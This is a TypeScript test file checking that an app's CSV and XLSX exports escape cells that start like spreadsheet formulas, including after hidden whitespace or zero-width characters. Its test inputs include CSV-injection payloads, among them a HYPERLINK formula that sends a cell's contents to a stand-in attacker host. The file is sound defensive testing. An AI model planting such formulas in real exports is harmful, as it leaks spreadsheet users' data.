import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCORING_COLUMNS } from '../../../shared/columns/index.ts';
import { type Fixture, startFixture } from '../../contract/service-fixture.ts';
import { fixtureExports, settleExport } from './export-settle.ts';

// Formulas in CSV exports, through the real export job and writer, with the real local service behind
// exportTable; files read back with papaparse. Expected cells are the test's literals or the service's
// own numbers fetched by the test.

let fx: Fixture;
let dir: string;

beforeAll(async () => {
  fx = await startFixture();
  dir = await mkdtemp(join(tmpdir(), 'rinkside-export-formulas-'));
}, 60_000);
afterAll(async () => {
  await fx?.close();
  await rm(dir, { recursive: true, force: true });
});

const exportsIn = (outDir: string) => fixtureExports(fx, outDir);

/** The CSV file's rows, byte-order mark dropped, as papaparse reads them. */
async function csvRows(file: string): Promise<string[][]> {
  const text = (await readFile(file, 'utf8')).replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

/** Text cells that a spreadsheet would run, each with a line break after the formula. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")\nsecond line',
  '=1+1\r\nsecond line',
  '+A1*2\nx',
  '-A1+3\r\ny',
  '@SUM(A1:A9)\n',
  '\t=1+1\ntab first',
  '\r=1+1\nreturn first',
];

describe('formulas in CSV exports', () => {
  it('a text cell that starts like a formula is escaped whatever follows it, line breaks included', async () => {
    const out = await mkdtemp(join(dir, 'multiline-'));
    const ex = await exportsIn(out);
    const table = {
      columns: ['Note', 'Value'],
      rows: [
        ...FORMULAS.map((f, i) => [f, i]),
        ['plain text\n=1+1 on the second line', -3],
        ['Sunny; =1+1 later', null],
      ],
      context: { view: 'Compare profile' },
    };
    const started = await ex.handlers.exportRows({ table, format: 'csv' });
    if (!started.ok) throw new Error(started.error.message);
    const done = await settleExport(ex, started.value.id);
    expect(done.state).toBe('done');
    const [header, ...rows] = await csvRows(join(out, 'rinkside-compare-profile.csv'));
    expect(header).toEqual(['Note', 'Value']);
    expect(rows.map((r) => r[0])).toEqual([
      ...FORMULAS.map((f) => `'${f}`),
      'plain text\n=1+1 on the second line',
      'Sunny; =1+1 later',
    ]);
    // Numbers are numbers, never escaped: a negative one reads `-3`.
    expect(rows.map((r) => r[1])).toEqual([...FORMULAS.map((_, i) => String(i)), '-3', '']);
  });

  it('a cell whose first character after spaces, line feeds or zero-width characters starts a formula is escaped', async () => {
    const out = await mkdtemp(join(dir, 'hidden-start-'));
    const ex = await exportsIn(out);
    // Spreadsheets skip these before reading a formula; the escape must see past them the same way.
    const hidden = [
      ' =1+1',
      '   +A1*2',
      '\n=HYPERLINK("http://evil.example","Click")',
      ' \n -A1+3',
      '\u200B=1+1',
      '\u200C@SUM(A1:A9)',
      '\u200D+1',
      '\u2060=1+1',
      '\uFEFF-1+1',
      ' \u200B\n\uFEFF =cmd',
    ];
    const plain = ['plain text', ' two words', '\u200Bnot a formula', 'a=1+1', ' 12 goals'];
    const table = {
      columns: ['Note', 'Value'],
      rows: [...hidden.map((h, i) => [h, -i]), ...plain.map((p) => [p, -3.5])],
      context: { view: 'Compare profile' },
    };
    for (const format of ['csv', 'xlsx'] as const) {
      const started = await ex.handlers.exportRows({ table, format });
      if (!started.ok) throw new Error(started.error.message);
      expect((await settleExport(ex, started.value.id)).state).toBe('done');
    }
    const [header, ...rows] = await csvRows(join(out, 'rinkside-compare-profile.csv'));
    expect(header).toEqual(['Note', 'Value']);
    expect(rows.map((r) => r[0])).toEqual([...hidden.map((h) => `'${h}`), ...plain]);
    // Numbers are never escaped, negative ones included.
    expect(rows.map((r) => r[1])).toEqual([...hidden.map((_, i) => String(-i)), ...plain.map(() => '-3.5')]);

    // In XLSX every one of them is a text cell, never a formula: exceljs writes strings as strings.
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(join(out, 'rinkside-compare-profile.xlsx'));
    const sheet = book.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const cells = [...hidden, ...plain].map((_, i) => sheet.getRow(i + 2).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(cells.map(() => ExcelJS.ValueType.String));
    expect(cells.map((c) => c.value)).toEqual([...hidden, ...plain]);
  });

  it("the catalog's own headers go out as written (`+/-`), from a table spec or a page's table; any other header that starts like a formula is escaped", async () => {
    const out = await mkdtemp(join(dir, 'headers-'));
    const ex = await exportsIn(out);
    const cols = SCORING_COLUMNS.regularStats.filter((c) =>
      ['player', 'regularStats.GP', 'regularStats.PM'].includes(c.id),
    );
    expect(cols.map((c) => c.abbr)).toEqual(['Player', 'GP', '+/-']);
    // The team with a skater of the most negative plus-minus, so the file must carry a negative number.
    const [row] = fx.sql<{ teamId: number; seasonSlug: string }>(
      'SELECT teamId, seasonSlug FROM player_stats WHERE isGoalie = 0 AND reg_PM < 0 ORDER BY reg_PM, id LIMIT 1',
    );
    if (!row) throw new Error('no skater with a negative +/-');
    const query = { season: row.seasonSlug, sort: 'regularStats.PM', limit: '100', offset: '0' };
    const started = await ex.handlers.exportTable({
      spec: {
        endpoint: 'teamPlayerStats',
        path: { id: row.teamId },
        query,
        columns: cols.map((c) => ({ id: c.id, header: c.abbr })),
        context: { view: 'Scoring', teamCode: 'TST', season: row.seasonSlug },
      },
      format: 'csv',
      scope: 'all',
    });
    if (!started.ok) throw new Error(started.error.message);
    const done = await settleExport(ex, started.value.id);
    expect(done.state).toBe('done');
    const [header, ...rows] = await csvRows(join(out, `rinkside-scoring-TST-${row.seasonSlug}.csv`));
    expect(header).toEqual(['Player', 'GP', '+/-']);

    const r = await fx.get(`/teams/${row.teamId}/player-stats?${new URLSearchParams(query)}`);
    expect(r.status).toBe(200);
    const pm = (r.body.data as { regularStats: { PM?: number | null } | null }[]).map(
      (d) => d.regularStats?.PM ?? null,
    );
    expect(pm.some((v) => v !== null && v < 0)).toBe(true);
    expect(rows.map((x) => x[2])).toEqual(pm.map((v) => (v === null ? '' : String(v))));

    // A chart table's headers are the page's: one the catalog writes (`+/-`, the abbreviation of plus-minus)
    // goes out as written; any other (team names from the data) is data, escaped when it starts like a formula.
    const rowsOut = await mkdtemp(join(dir, 'rows-headers-'));
    const exRows = await exportsIn(rowsOut);
    const chart = await exRows.handlers.exportRows({
      table: {
        columns: ['Metric', '=Evil Club', '+/-', ' -Evil Club', '+/- Club'],
        rows: [['GD', 3, -3, 1, 2]],
        context: { view: 'Compare profile' },
      },
      format: 'csv',
    });
    if (!chart.ok) throw new Error(chart.error.message);
    expect((await settleExport(exRows, chart.value.id)).state).toBe('done');
    expect(await csvRows(join(rowsOut, 'rinkside-compare-profile.csv'))).toEqual([
      ['Metric', "'=Evil Club", '+/-', "' -Evil Club", "'+/- Club"],
      ['GD', '3', '-3', '1', '2'],
    ]);
  });
});
